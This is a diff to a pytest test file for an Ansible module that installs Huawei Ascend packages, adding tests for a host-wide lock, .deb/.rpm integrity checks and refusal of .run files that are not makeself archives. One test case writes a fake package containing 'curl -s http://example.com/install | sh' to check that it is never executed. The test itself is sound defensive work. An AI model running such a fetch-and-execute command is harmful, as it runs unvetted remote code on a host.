@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import os
 import platform
+import re
 import shutil
 import subprocess
 import sys
@@ -20,6 +21,8 @@ import pytest
 
 from ansible.module_utils import basic
 
+from ansible_collections.kunpeng_ascend.vllm.plugins.module_utils import _ascend_packages
+from ansible_collections.kunpeng_ascend.vllm.plugins.module_utils._ascend_packages import HostLock
 from ansible_collections.kunpeng_ascend.vllm.plugins.modules import ascend_package
 from ansible_collections.kunpeng_ascend.vllm.tests.unit.plugins.modules.module_harness import (
     ExitJson,
@@ -27,13 +30,19 @@ from ansible_collections.kunpeng_ascend.vllm.tests.unit.plugins.modules.module_h
     capture_results,
     run_main,
 )
+from ansible_collections.kunpeng_ascend.vllm.tests.unit.plugins.module_utils.lock_holder import LockHolder, held_by
 from ansible_collections.kunpeng_ascend.vllm.tests.unit.plugins.module_utils.test_ascend_packages import (
+    ALL_MARKERS,
+    DEB_MEMBERS,
     DRIVER_OK,
     DRIVER_REBOOT,
     FIRMWARE_OK,
+    NOT_MAKESELF,
     TOOLKIT_DEB_NO_PYTHON,
     TOOLKIT_OK,
+    ar_archive,
     load_fixture,
+    makeself_archive,
 )
 
 TIMEOUT = '/usr/bin/timeout'
@@ -118,11 +127,15 @@ class FakeHost:
         os.chmod(full, mode)
         return full
 
-    def package(self, name, mode=0o755):
-        """A package file (never run: run_command is mocked)."""
+    def package(self, name, mode=0o755, data=None):
+        """A package file (never run: run_command is mocked) that passes the checks of its format's file layout: a
+        real makeself header for a .run, an ar archive of a .deb's members for a .deb; else ``data``."""
+        if data is None:
+            by_format = {'.run': makeself_archive(), '.deb': ar_archive(DEB_MEMBERS)}
+            data = by_format.get(os.path.splitext(name)[1], b'#!/bin/sh\nexit 99\n')
         full = os.path.join(self.packages, name)
-        with open(full, 'w', encoding='utf-8') as handle:
-            handle.write('#!/bin/sh\nexit 99\n')
+        with open(full, 'wb') as handle:
+            handle.write(data)
         os.chmod(full, mode)
         return full
 
@@ -147,9 +160,17 @@ class FakeHost:
         return answer
 
 
+def lock_in(monkeypatch, directory):
+    """Put the host-wide lock in ``directory``; return its path."""
+    directory.mkdir()
+    monkeypatch.setattr(_ascend_packages, 'LOCK_DIRS', (str(directory),))
+    return str(directory / 'kunpeng_ascend_package.lock')
+
+
 @pytest.fixture
 def host(monkeypatch, tmp_path):
     fake = FakeHost(tmp_path)
+    fake.lock = lock_in(monkeypatch, tmp_path / 'run-lock')
     monkeypatch.setattr(basic.AnsibleModule, 'run_command', fake.run_command)
     monkeypatch.setattr(basic.AnsibleModule, 'get_bin_path', fake.get_bin_path)
     monkeypatch.setattr(basic.AnsibleModule, 'warn', fake.warn)
@@ -562,6 +583,8 @@ def test_unreadable_version_file(host):
 DEB = 'Ascend-cann-toolkit_8.0.0_linux-aarch64.deb'
 DEB_CONTROL = 'Package: ascend-cann-toolkit\nVersion: 8.0.0\nArchitecture: arm64\n'
 NOT_FOUND = (1, '', 'dpkg-query: no packages found matching ascend-cann-toolkit\n')
+DEB_LISTING = ('drwxr-xr-x root/root         0 2025-01-01 00:00 ./\n'
+               '-rwxr-xr-x root/root      2915 2025-01-01 00:00 ./usr/lib/ascend-sim/packages/installer.sh\n')
 DEBIAN = {'DEBIAN_FRONTEND': 'noninteractive'}
 
 
@@ -573,6 +596,7 @@ class Dpkg:
         self.query = ('dpkg-query', '-W', '-f=${Status}\t${Version}', 'ascend-cann-toolkit')
         host.answers[(DPKG_DEB, '-f', path, 'Package', 'Version', 'Architecture')] = (0, DEB_CONTROL, '')
         host.answers[(DPKG_QUERY,) + self.query[1:]] = self.answer
+        host.answers[(DPKG_DEB, '--contents', path)] = (0, DEB_LISTING, '')
 
     def answer(self):
         if self.installed is None:
@@ -591,16 +615,20 @@ def deb_reads(path):
             call(DPKG_QUERY, '-W', '-f=${Status}\t${Version}', 'ascend-cann-toolkit')]
 
 
+def deb_checks(path):
+    """The reads and the archive check before an install or upgrade."""
+    return deb_reads(path) + [call(DPKG_DEB, '--contents', path)]
+
+
 def test_deb_install_check_mode_and_idempotence(host):
     path = host.package(DEB, 0o644)
     dpkg = Dpkg(host, path)
     host.answers[(DPKG, '-i', path)] = dpkg.sets('8.0.0', 'Setting up ascend-cann-toolkit (8.0.0) ...\n')
     args = {'path': path, 'accept_eula': True}
     predicted = run_module(dict(args, _ansible_check_mode=True))
-    assert host.calls() == deb_reads(path)
+    assert host.calls() == deb_checks(path)
     result = run_module(args)
-    assert host.calls() == deb_reads(path) * 2 + [call(DPKG, '-i', path, environ=DEBIAN),
-                                                  deb_reads(path)[1]]
+    assert host.calls() == deb_checks(path) * 2 + [call(DPKG, '-i', path, environ=DEBIAN), deb_reads(path)[1]]
     assert result == outcome('toolkit', '8.0.0', None, '8.0.0', 'install', command=[DPKG, '-i', path],
                              stdout='Setting up ascend-cann-toolkit (8.0.0) ...\n')
     assert predicted == without_run(result)
@@ -612,13 +640,15 @@ def test_deb_upgrade_with_extra_args_and_removal(host):
     dpkg = Dpkg(host, path, installed='8.0.RC3')
     host.answers[(DPKG, '-i', '--force-overwrite', path)] = dpkg.sets('8.0.0')
     result = run_module({'path': path, 'state': 'latest', 'accept_eula': True, 'extra_args': ['--force-overwrite']})
-    assert host.calls()[2] == call(DPKG, '-i', '--force-overwrite', path, environ=DEBIAN)
+    assert host.calls()[:4] == deb_checks(path) + [call(DPKG, '-i', '--force-overwrite', path, environ=DEBIAN)]
     assert (result['action'], result['before'], result['after']) == ('upgrade', '8.0.RC3', '8.0.0')
 
     host.answers[(DPKG, '-r', 'ascend-cann-toolkit')] = dpkg.sets(None)
     predicted = run_module({'path': path, 'state': 'absent', '_ansible_check_mode': True})
     result = run_module({'path': path, 'state': 'absent'})
-    assert host.calls()[-2] == call(DPKG, '-r', 'ascend-cann-toolkit', environ=DEBIAN)
+    # removal does not use the file, so it is not checked
+    assert host.calls()[-6:] == deb_reads(path) * 2 + [call(DPKG, '-r', 'ascend-cann-toolkit', environ=DEBIAN),
+                                                       deb_reads(path)[1]]
     assert result == outcome('toolkit', '8.0.0', '8.0.0', None, 'uninstall', command=[DPKG, '-r', 'ascend-cann-toolkit'],
                              stdout='')
     assert predicted == without_run(result)
@@ -643,6 +673,7 @@ def test_deb_half_configured_counts_as_not_installed_with_a_warning(host):
     host.answers[(DPKG_DEB, '-f', path, 'Package', 'Version', 'Architecture')] = (0, DEB_CONTROL, '')
     host.answers[(DPKG_QUERY, '-W', '-f=${Status}\t${Version}', 'ascend-cann-toolkit')] = (
         0, 'install ok half-configured\t8.0.0', '')
+    host.answers[(DPKG_DEB, '--contents', path)] = (0, DEB_LISTING, '')
     result = run_module({'path': path, 'accept_eula': True, '_ansible_check_mode': True})
     assert (result['action'], result['before']) == ('install', None)
     host.warn.assert_called_once_with('dpkg lists ascend-cann-toolkit as half-configured: it counts as not installed')
@@ -677,6 +708,7 @@ class Rpmdb:
         host.answers[(RPM, '-qp', '--qf', '%{NAME}\\n%{VERSION}\\n%{ARCH}\\n', path)] = (
             0, 'ascend-hdk-910b-npu-driver\n25.0.rc1.1\naarch64\n', '')
         host.answers[(RPM, '-q', '--qf', '%{VERSION}\\n', 'ascend-hdk-910b-npu-driver')] = self.answer
+        host.answers[(RPM, '-K', '--nosignature', path)] = (0, '%s: digests OK\n' % path, '')
 
     def answer(self):
         if self.installed is None:
@@ -695,15 +727,20 @@ def rpm_reads(path):
             call(RPM, '-q', '--qf', '%{VERSION}\\n', 'ascend-hdk-910b-npu-driver')]
 
 
+def rpm_checks(path):
+    """The reads and the digest check before an install or upgrade."""
+    return rpm_reads(path) + [call(RPM, '-K', '--nosignature', path)]
+
+
 def test_rpm_install_upgrade_downgrade_and_removal(host):
     path = host.package(RPM_FILE, 0o644)
     rpmdb = Rpmdb(host, path)
     stdout = load_fixture(DRIVER_REBOOT)
     host.answers[(RPM, '-Uvh', path)] = rpmdb.sets('25.0.rc1.1', stdout)
     predicted = run_module({'path': path, '_ansible_check_mode': True})
-    assert host.calls() == rpm_reads(path)
+    assert host.calls() == rpm_checks(path)
     result = run_module({'path': path})
-    assert host.calls()[2:] == rpm_reads(path) + [call(RPM, '-Uvh', path), rpm_reads(path)[1]]
+    assert host.calls()[3:] == rpm_checks(path) + [call(RPM, '-Uvh', path), rpm_reads(path)[1]]
     assert result == outcome('driver', '25.0.rc1.1', None, '25.0.rc1.1', 'install', reboot=True,
                              command=[RPM, '-Uvh', path], stdout=stdout)
     # a first driver install cannot be known to need a reboot before it ran
@@ -723,7 +760,7 @@ def test_rpm_install_upgrade_downgrade_and_removal(host):
 
     host.answers[(RPM, '-e', 'ascend-hdk-910b-npu-driver')] = rpmdb.sets(None)
     result = run_module({'path': path, 'state': 'absent'})
-    assert host.calls()[-2] == call(RPM, '-e', 'ascend-hdk-910b-npu-driver')
+    assert host.calls()[-4:] == rpm_reads(path) + [call(RPM, '-e', 'ascend-hdk-910b-npu-driver'), rpm_reads(path)[1]]
     assert (result['action'], result['before'], result['after'], result['changed']) == (
         'uninstall', '25.0.rc1.1', None, True)
 
@@ -745,6 +782,227 @@ def test_rpm_query_failure(host):
         'msg': 'rpm -qp %s failed (rc=1): error: open of %s failed: Permission denied' % (RPM_FILE, path),
         'cmd': PREFIX + [RPM, '-qp', '--qf', '%{NAME}\\n%{VERSION}\\n%{ARCH}\\n', path], 'rc': 1, 'stdout': '',
         'stderr': 'error: open of %s failed: Permission denied\n' % path}
+
+
+# ---------------------------------------------------------------------------------------------------- refusals of files
+# Each refusal comes before any command that acts (in check mode too); the only commands allowed before it are the
+# read-only queries named in each test.
+
+DRIVER_RUN = PACKAGES['driver'][0]
+
+
+@pytest.mark.parametrize('data,missing', [
+    (b'#!/bin/sh\ncurl -s http://example.com/install | sh\n', ALL_MARKERS),
+    (b'<!DOCTYPE html>\n<html><body><h1>403 Forbidden</h1></body></html>\n',
+     'a first line starting with #!, ' + ALL_MARKERS),
+    (makeself_archive()[:600], 'filesizes=, MS_Printf'),
+])
+def test_a_run_that_is_not_a_makeself_archive_is_never_run(host, data, missing):
+    path = host.package(DRIVER_RUN, data=data)
+    host.install('driver', '24.1.rc3.7')
+    for state in ('present', 'latest', 'absent'):
+        for check_mode in (True, False):
+            assert run_module({'path': path, 'root': host.root, 'state': state, '_ansible_check_mode': check_mode},
+                              FailJson) == {'msg': path + ' ' + NOT_MAKESELF % missing}
+    assert host.calls() == []
+
+
+def test_an_empty_or_cut_run_is_never_run(host):
+    path = host.package(DRIVER_RUN, data=b'')
+    for check_mode in (True, False):
+        assert run_module({'path': path, 'root': host.root, '_ansible_check_mode': check_mode}, FailJson) == {
+            'msg': '%s is empty, not a makeself archive, so nothing was run: download the package again' % path}
+    path = host.package(DRIVER_RUN, data=makeself_archive()[:10000])
+    for check_mode in (True, False):
+        assert run_module({'path': path, 'root': host.root, '_ansible_check_mode': check_mode}, FailJson) == {
+            'msg': '%s has 10000 bytes, which end inside its 719-line makeself header: it is cut short, so nothing was '
+                   'run. Download the package again' % path}
+    assert host.calls() == []
+
+
+def test_a_relative_path_is_made_absolute_before_it_is_checked_or_run(host, monkeypatch):
+    monkeypatch.chdir(host.packages)
+    path = host.package(DRIVER_RUN)
+    host.answers[(path, '--check')] = (0, CHECK_OK, '')
+    host.answers[tuple([path] + FIRST_INSTALL_FLAGS['driver'])] = host.installs('driver', '25.0.rc1.1', '')
+    result = run_module({'path': DRIVER_RUN, 'root': host.root})
+    assert host.calls() == [call(path, '--check'), call(path, *FIRST_INSTALL_FLAGS['driver'])]
+    assert result['cmd'] == PREFIX + [path] + FIRST_INSTALL_FLAGS['driver']
+    # a bare name that is not in the working directory is not looked up anywhere else
+    monkeypatch.chdir(host.root)
+    assert run_module({'path': DRIVER_RUN}, FailJson) == {
+        'msg': 'path: %s is not a file on the managed host' % os.path.join(host.root, DRIVER_RUN)}
+
+
+@pytest.mark.parametrize('name,version', [('Ascend-hdk-910b-npu-driver_8..0_linux-aarch64.run', '8..0'),
+                                          ('Ascend-hdk-910b-npu-driver_24.1.0.._linux-aarch64.run', '24.1.0..'),
+                                          ('Ascend-hdk-910b-npu-driver_24.1.spc1_linux-aarch64.run', '24.1.spc1')])
+def test_a_run_version_that_does_not_parse_is_refused_before_anything_runs(host, name, version):
+    path = host.package(name)
+    error = {'8..0': "'8..0' is not a version: '' is neither a number nor a tag such as rc1, post2 or b010",
+             '24.1.0..': "'24.1.0..' is not a version: '' is neither a number nor a tag such as rc1, post2 or b010",
+             '24.1.spc1': "'24.1.spc1' is not a version: 'spc1' is neither a number nor a tag such as rc1, post2 or "
+                          "b010"}[version]
+    for check_mode in (True, False):
+        assert run_module({'path': path, 'root': host.root, '_ansible_check_mode': check_mode}, FailJson) == {
+            'msg': '%s: the package version %s from its file name does not parse (%s), so nothing was run: use the '
+                   'package as Huawei names and builds it' % (name, version, error)}
+    assert host.calls() == []
+
+
+def test_a_deb_version_that_does_not_parse_is_refused_after_reading_its_control_data(host):
+    path = host.package(DEB, 0o644)
+    host.answers[(DPKG_DEB, '-f', path, 'Package', 'Version', 'Architecture')] = (
+        0, 'Package: ascend-cann-toolkit\nVersion: 8..0\nArchitecture: arm64\n', '')
+    for check_mode in (True, False):
+        assert run_module({'path': path, 'accept_eula': True, '_ansible_check_mode': check_mode}, FailJson) == {
+            'msg': "%s: the package version 8..0 from its Version field does not parse ('8..0' is not a version: '' is "
+                   "neither a number nor a tag such as rc1, post2 or b010), so nothing was run: use the package as "
+                   "Huawei names and builds it" % DEB}
+    assert host.calls() == [call(DPKG_DEB, '-f', path, 'Package', 'Version', 'Architecture')] * 2
+
+
+def test_an_rpm_version_that_does_not_parse_is_refused_after_reading_its_header(host):
+    path = host.package(RPM_FILE, 0o644)
+    query = (RPM, '-qp', '--qf', '%{NAME}\\n%{VERSION}\\n%{ARCH}\\n', path)
+    host.answers[query] = (0, 'ascend-hdk-910b-npu-driver\n25..0\naarch64\n', '')
+    assert run_module({'path': path, '_ansible_check_mode': True}, FailJson) == {
+        'msg': "%s: the package version 25..0 from its VERSION tag does not parse ('25..0' is not a version: '' is "
+               "neither a number nor a tag such as rc1, post2 or b010), so nothing was run: use the package as Huawei "
+               "names and builds it" % RPM_FILE}
+    assert host.calls() == [call(*query)]
+
+
+def test_a_deb_cut_short_is_refused_before_dpkg_reads_it(host):
+    path = host.package(DEB, 0o644, data=ar_archive(DEB_MEMBERS)[:647])
+    Dpkg(host, path)
+    for check_mode in (True, False):
+        assert run_module({'path': path, 'accept_eula': True, '_ansible_check_mode': check_mode}, FailJson) == {
+            'msg': '%s is cut short: its member data.tar.xz ends at byte 1293, but the file has 647 bytes, so nothing '
+                   'was run. Download the package again' % path}
+    assert host.calls() == []
+
+
+@pytest.mark.skipif(shutil.which('dpkg-deb') is None, reason='needs dpkg-deb (apt-get install dpkg)')
+def test_the_first_half_of_a_real_deb_is_refused_in_check_mode(host, tmp_path):
+    tree = tmp_path / 'tree'
+    (tree / 'DEBIAN').mkdir(parents=True)
+    (tree / 'DEBIAN' / 'control').write_text('Package: ascend-cann-toolkit\nVersion: 8.0.0\nArchitecture: arm64\n'
+                                             'Maintainer: test <test@example.com>\nDescription: test\n')
+    (tree / 'opt').mkdir()
+    (tree / 'opt' / 'payload').write_bytes(os.urandom(100000))
+    whole = str(tmp_path / DEB)
+    subprocess.run(['dpkg-deb', '--root-owner-group', '-b', str(tree), whole], check=True, stdout=subprocess.DEVNULL)
+    with open(whole, 'rb') as handle:
+        data = handle.read()
+    path = host.package(DEB, 0o644, data=data[:len(data) // 2])
+    Dpkg(host, path)
+    result = run_module({'path': path, 'accept_eula': True, '_ansible_check_mode': True}, FailJson)
+    assert re.match(r'^%s is cut short: its member data\.tar(\.[a-z]+)? ends at byte [0-9]+, but the file has %d '
+                    r'bytes, so nothing was run\. Download the package again$' % (re.escape(path), len(data) // 2),
+                    result['msg']), result
+    assert host.calls() == []
+
+
+def test_a_deb_that_fails_its_archive_check_installs_nothing(host):
+    path = host.package(DEB, 0o644)
+    Dpkg(host, path)
+    # what dpkg-deb 1.21.22 printed for a .deb with 100 bytes of its data.tar.xz inverted (only the size differs)
+    stderr = ("dpkg-deb (subprocess): decompressing archive '%s' (size=1294) member 'data.tar': lzma error: "
+              "compressed data is corrupt\ntar: Unexpected EOF in archive\ntar: Error is not recoverable: exiting now\n"
+              "dpkg-deb: error: tar subprocess returned error exit status 2\n" % path)
+    host.answers[(DPKG_DEB, '--contents', path)] = (2, DEB_LISTING, stderr)
+    expected = {
+        'msg': "%s failed its archive check (dpkg-deb --contents, rc=2), so nothing was installed: -rwxr-xr-x "
+               "root/root      2915 2025-01-01 00:00 ./usr/lib/ascend-sim/packages/installer.sh; dpkg-deb "
+               "(subprocess): decompressing archive '%s' (size=1294) member 'data.tar': lzma error: compressed data "
+               "is corrupt; tar: Unexpected EOF in archive; tar: Error is not recoverable: exiting now; dpkg-deb: "
+               "error: tar subprocess returned error exit status 2. Download the package again" % (DEB, path),
+        'cmd': PREFIX + [DPKG_DEB, '--contents', path], 'rc': 2, 'stdout': DEB_LISTING, 'stderr': stderr}
+    for check_mode in (True, False):
+        assert run_module({'path': path, 'accept_eula': True, '_ansible_check_mode': check_mode}, FailJson) == expected
+    assert host.calls() == deb_checks(path) * 2
+
+
+def test_an_rpm_that_fails_its_digest_check_installs_nothing(host):
+    path = host.package(RPM_FILE, 0o644)
+    Rpmdb(host, path)
+    # rpm 4.14 and later print the failing classes in upper case
+    host.answers[(RPM, '-K', '--nosignature', path)] = (1, '%s: DIGESTS NOT OK\n' % path, '')
+    for check_mode in (True, False):
+        assert run_module({'path': path, '_ansible_check_mode': check_mode}, FailJson) == {
+            'msg': '%s failed its digest check (rpm -K --nosignature, rc=1), so nothing was installed: %s: DIGESTS NOT '
+                   'OK. Download the package again' % (RPM_FILE, path),
+            'cmd': PREFIX + [RPM, '-K', '--nosignature', path], 'rc': 1, 'stdout': '%s: DIGESTS NOT OK\n' % path,
+            'stderr': ''}
+    assert host.calls() == rpm_checks(path) * 2
+
+
+# ---------------------------------------------------------------------------------------------------- host-wide lock
+
+def lock_is_held(path):
+    """Whether some run holds the lock at ``path`` (tried from a new open file, as another run would)."""
+    probe = HostLock(path, 'probe')
+    try:
+        probe.acquire(0)
+    except _ascend_packages.PackageError:
+        return True
+    probe.release()
+    return False
+
+
+def test_the_lock_is_held_from_reading_the_installed_version_to_reading_it_again(host, monkeypatch):
+    args = module_args(host, 'driver')
+    path = args['path']
+    held = []
+    read_installed = _ascend_packages.InstalledRun.version
+
+    def version(installed):
+        held.append(('read', lock_is_held(host.lock)))
+        return read_installed(installed)
+    monkeypatch.setattr(_ascend_packages.InstalledRun, 'version', version)
+    host.answers[(path, '--check')] = (0, CHECK_OK, '')
+    install = host.installs('driver', '25.0.rc1.1', '')
+
+    def installer():
+        held.append(('install', lock_is_held(host.lock)))
+        with open(host.lock, encoding='utf-8') as handle:
+            held.append(handle.read().split(', since ')[0])
+        return install()
+    host.answers[tuple([path] + FIRST_INSTALL_FLAGS['driver'])] = installer
+    assert run_module(dict(args, _ansible_check_mode=True))['action'] == 'install'
+    assert held == [('read', True)]
+    assert run_module(args)['action'] == 'install'
+    assert held[1:] == [('read', True), ('install', True), 'pid %d: ascend_package state=present path=%s' % (
+        os.getpid(), path), ('read', True)]
+    assert not lock_is_held(host.lock)
+
+
+@pytest.mark.parametrize('check_mode', [True, False])
+def test_a_run_waits_for_the_lock_and_fails_naming_its_holder(host, check_mode):
+    args = module_args(host, 'driver', lock_timeout=1, _ansible_check_mode=check_mode)
+    with LockHolder(host.lock) as holder:
+        message = run_module(args, FailJson)['msg']
+        assert held_by(host.lock, holder.pid, 'the other run', 1).match(message), message
+        assert host.calls() == []
+    host.install('driver', '25.0.rc1.1')
+    assert run_module(args)['action'] == 'none'
+    host.install('driver', '25.0.rc1.1')
+    assert run_module(args)['action'] == 'none'
+
+
+def test_a_run_that_fails_releases_the_lock(host):
+    args = module_args(host, 'driver')
+    host.answers[(args['path'], '--check')] = (0, CHECK_OK, '')
+    host.answers[tuple([args['path']] + FIRST_INSTALL_FLAGS['driver'])] = (1, '[ERROR]ERR_NO:0x0091', '')
+    assert run_module(args, FailJson)['rc'] == 1
+    assert not lock_is_held(host.lock)
+
+
+def test_a_negative_lock_timeout_is_refused(host):
+    assert run_module(module_args(host, 'driver', lock_timeout=-1), FailJson) == {
+        'msg': 'lock_timeout must be 0 (do not wait) or a number of seconds, not -1'}
+    assert host.calls() == []
 
 
 # ---------------------------------------------------------------------------------------------------- the simulator
@@ -799,6 +1057,7 @@ def sim_root(tmp_path, monkeypatch):
     monkeypatch.setenv('TMPDIR', str(tmp_path))
     capture_results(monkeypatch)
     monkeypatch.setattr(basic.AnsibleModule, 'warn', mock.Mock())
+    lock_in(monkeypatch, tmp_path / 'run-lock')
     # Never let an installer loose on this machine's root.
     assert os.environ['ASCEND_SIM_ROOT'] not in ('', '/')
     return root
@@ -920,3 +1179,53 @@ def test_sim_corrupted_archive_fails_its_check(tmp_path, sim_root):
         assert 'Error in SHA256 checksums' in result['msg']
         assert sim_cmd(result) == [driver, '--check']
     assert not (sim_root / 'usr').joinpath('local').exists()
+
+
+@simulator
+def test_sim_a_script_named_like_a_package_is_never_executed(tmp_path, sim_root):
+    marker = tmp_path / 'executed'
+    path = tmp_path / ('Ascend-hdk-910b-npu-driver_24.1.rc1_linux-%s.run' % ARCH_NAME)
+    path.write_text('#!/bin/sh\ntouch %s\n' % marker)
+    path.chmod(0o755)
+    for check_mode in (True, False):
+        result = sim_run({'path': str(path), 'root': str(sim_root), '_ansible_check_mode': check_mode}, FailJson)
+        assert result == {'msg': str(path) + ' ' + NOT_MAKESELF % ALL_MARKERS}
+    assert not marker.exists()
+
+
+@simulator
+def test_sim_half_a_run_is_never_executed(sim_packages, tmp_path, sim_root):
+    driver = sim_packages[0]['Ascend-hdk-910b-npu-driver']
+    with open(driver, 'rb') as handle:
+        data = handle.read()
+    path = tmp_path / os.path.basename(driver)
+    path.write_bytes(data[:len(data) // 2])
+    path.chmod(0o755)
+    for check_mode in (True, False):
+        result = sim_run({'path': str(path), 'root': str(sim_root), '_ansible_check_mode': check_mode}, FailJson)
+        assert re.match(r'^%s has %d bytes, (which end inside its [0-9]+-line makeself header|but its makeself header '
+                        r'announces [0-9]+ .*): it is cut short' % (re.escape(str(path)), len(data) // 2),
+                        result['msg']), result
+    assert not (sim_root / 'usr' / 'local').exists()
+
+
+@simulator
+@pytest.mark.skipif(shutil.which('dpkg-query') is None, reason='needs dpkg-query')
+def test_sim_a_whole_deb_passes_its_checks_and_half_of_it_does_not(tmp_path, sim_root):
+    """Check mode only (it reads this machine's dpkg database, where the fake driver is not installed)."""
+    out = tmp_path / 'debs'
+    proc = subprocess.run([sys.executable, BUILDER, '--out', str(out), '--arch', ARCH, '--only', 'driver',
+                           '--formats', 'deb'], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=120,
+                          check=False)
+    assert proc.returncode == 0, proc.stderr
+    deb = str(out / proc.stdout.split()[0])
+    assert deb.endswith('.deb')
+    result = sim_run({'path': deb, '_ansible_check_mode': True})
+    assert (result['action'], result['after']) == ('install', '24.1.rc1')
+    with open(deb, 'rb') as handle:
+        data = handle.read()
+    half = tmp_path / os.path.basename(deb)
+    half.write_bytes(data[:len(data) // 2])
+    result = sim_run({'path': str(half), '_ansible_check_mode': True}, FailJson)
+    assert re.match(r'^%s is cut short: its member data\.tar(\.[a-z]+)? ends at byte [0-9]+, but the file has %d bytes'
+                    % (re.escape(str(half)), len(data) // 2), result['msg']), result
